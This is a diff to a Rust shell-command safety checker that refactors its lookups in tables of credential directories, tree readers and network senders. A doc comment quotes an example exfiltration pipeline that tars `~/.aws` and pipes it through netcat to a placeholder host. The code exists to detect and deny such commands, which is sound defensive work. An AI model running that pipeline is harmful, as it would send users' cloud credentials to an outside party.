@@ -151,7 +151,8 @@ pub fn run(cx: &CheckCx<'_>, out: &mut Findings, _reasons: &mut Vec<Reason>) {
 const NAME_ONLY: &[&str] = &["echo", "printf", "print", "basename", "dirname"];
 
 fn names_only(c: &ExecCommand) -> bool {
-    c.base_name().is_some_and(|n| NAME_ONLY.contains(&n))
+    c.base_name()
+        .is_some_and(|n| crate::shell::tables::has(NAME_ONLY, n))
 }
 
 /// Directories that hold secret files (§6.4): archiving, copying or searching one of them
@@ -201,7 +202,7 @@ const CREDENTIAL_DIRS: &[&str] = &[
 /// The credential directory `value` names, when `c` reads whole trees.
 fn credential_dir(c: &ExecCommand, value: &str, ctx: &EvalContext) -> Option<&'static str> {
     let name = c.base_name()?;
-    if name == "find" || !TREE_READERS.contains(&name) {
+    if name == "find" || !crate::shell::tables::has(TREE_READERS, name) {
         return None;
     }
     let forms = path_forms(value.trim_end_matches('/'), ctx);
@@ -269,21 +270,21 @@ fn to_socket(c: &ExecCommand) -> bool {
 /// (`tar czf - ~/.aws | nc HOST 9000`): deny as exfiltration (issue 16 item 3).
 fn secret_dirs_sent(cx: &CheckCx<'_>, out: &mut Findings) {
     let model = cx.model;
-    let readers = model
-        .commands
-        .iter()
-        .any(|c| c.base_name().is_some_and(|n| TREE_READERS.contains(&n)));
+    let readers = model.commands.iter().any(|c| {
+        c.base_name()
+            .is_some_and(|n| crate::shell::tables::has(TREE_READERS, n))
+    });
     if !readers {
         return;
     }
     let sent = sent_commands(model);
     for (i, c) in model.commands.iter().enumerate() {
         let Some(name) = c.base_name() else { continue };
-        if !TREE_READERS.contains(&name) {
+        if !crate::shell::tables::has(TREE_READERS, name) {
             continue;
         }
-        let remote =
-            TREE_SENDERS.contains(&name) && c.args().iter().any(|a| remote_operand(a.text()));
+        let remote = crate::shell::tables::has(TREE_SENDERS, name)
+            && c.args().iter().any(|a| remote_operand(a.text()));
         if !(sent.contains(&i) || to_socket(c) || remote) {
             continue;
         }
@@ -729,7 +730,7 @@ fn emits(c: &ExecCommand, i: usize, whole: &str, origin: Origin) -> bool {
     if tables::has(EMITTERS, name) {
         return true;
     }
-    if COMPRESSORS.contains(&name) {
+    if crate::shell::tables::has(COMPRESSORS, name) {
         return args
             .iter()
             .any(|a| a.is("--stdout") || a.is("--to-stdout") || bundle_has(a, 'c', "SbpLT"));
@@ -1017,7 +1018,8 @@ fn env_dump(c: &ExecCommand) -> bool {
 }
 
 fn sender(c: &ExecCommand) -> bool {
-    c.base_name().is_some_and(|n| SENDERS.contains(&n))
+    c.base_name()
+        .is_some_and(|n| crate::shell::tables::has(SENDERS, n))
 }
 
 /// Environment dumps: ask; deny when a later pipeline stage or the enclosing command sends
